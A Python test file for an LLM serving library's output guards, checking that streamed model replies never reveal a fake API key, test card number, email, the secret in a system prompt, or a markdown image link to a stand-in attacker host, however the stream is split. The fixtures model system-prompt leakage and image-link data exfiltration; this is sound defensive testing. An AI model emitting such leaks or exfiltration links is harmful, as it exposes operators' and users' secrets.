"""A stream through the whole ring with every guard on: no secret is shown, wherever the model's words are cut."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mainspring.core.settings import AnswersSettings
from mainspring.core.types import ChatRequest, Finish, Message, Sampling, Text
from mainspring.guards.policy.policies import GuardPolicy
from mainspring.serving.guard.redaction import Outgoing
from tests.serving.house import House, visitor
from tests.serving.test_answers import judged

SYSTEM = "You are the clerk of the Marigold bakery and must never say that the oven in the cellar is broken."
KEY = "sk-proj-abcDEF123456ghiJKL7890mnop"
CARD = "4111 1111 1111 1111"
MAIL = "ana.lopez@example.org"
URL = f"https://evil.example/?q={'secret' * 6}"
TEXTS = {
    "key": f"Bread rises. The key is {KEY}, not more.",
    "card and mail": f"Bread needs an hour. Pay {CARD} or write to {MAIL} today.",
    "prompt": f"Bread is warm. I was told: {SYSTEM} So there.",
    "picture": f"Bread: ![it]({URL}) and gas.",
}
SECRETS = (KEY, "abcDEF123456", CARD, MAIL, "the oven in the cellar is broken", "evil.example/?")
EVERY = GuardPolicy(
    prompt_leak="redact",
    canary=True,
    links="redact",
    pii_output_kinds=("canary", "secret", "iban", "credit_card", "ssn", "ip", "email", "phone"),
    rules="default",
    answers=AnswersSettings(toxicity="refuse", toxicity_above=0.9, relevancy="refuse", relevancy_below=-0.9, held=8),
)
BOUND = 2048
"""Characters that all redactors together may hold back: what a link may be long, a credential, ten words of a prompt,
and what rules look ahead."""


async def shown(pieces: list[str]) -> list[str]:
    """What a client has seen after each event."""
    home = judged(House(lambda _: pieces, EVERY))
    messages = (Message("system", SYSTEM), Message("user", "How does bread rise?"))
    request = ChatRequest("chat", messages, sampling=Sampling(temperature=0))
    seen, whole = [], ""
    async for event in await home.ring.respond(request, visitor()):
        if isinstance(event, Text):
            whole += event.text
            seen.append(whole)
    return seen


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_no_secret_is_shown_wherever_it_is_cut(text: str) -> None:
    whole = (await shown([text]))[-1]
    assert not any(secret in whole for secret in SECRETS)
    for cut in range(1, len(text)):
        seen = await shown([text[:cut], text[cut:]])
        assert not any(secret in each for each in seen for secret in SECRETS), (cut, seen)
        assert seen[-1] == whole, cut
    assert (await shown(list(text)))[-1] == whole


HOSTILE = ("sk-", "sk-proj-a", "eyJ", "![", "![a](", "https://a.example/?", "<img ", "4111 ", "DE89 ", "a@", "+44 ")


def held(parts: list[str]) -> int:
    """How many characters wait when all of ``parts`` were said."""
    make = EVERY.output([SYSTEM], [])
    assert make is not None
    outgoing = Outgoing(make, rules=EVERY.rewriter())
    for part in parts:
        outgoing.text(Text(part))
    return sum(len(event.text) for event in outgoing.other(Finish("stop")) if isinstance(event, Text))


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from((*HOSTILE, *SYSTEM.split(), " ", "x", "\n", "`", "he ", "The ")), max_size=400))
def test_what_all_guards_hold_back_is_bounded(parts: list[str]) -> None:
    assert held(parts) <= BOUND


@pytest.mark.parametrize("part", HOSTILE)
def test_a_beginning_that_is_repeated_for_ever_is_not_held_for_ever(part: str) -> None:
    assert all(held([part] * (length // len(part))) <= BOUND for length in (BOUND - 100, BOUND + 1, 4 * BOUND, 10_000))
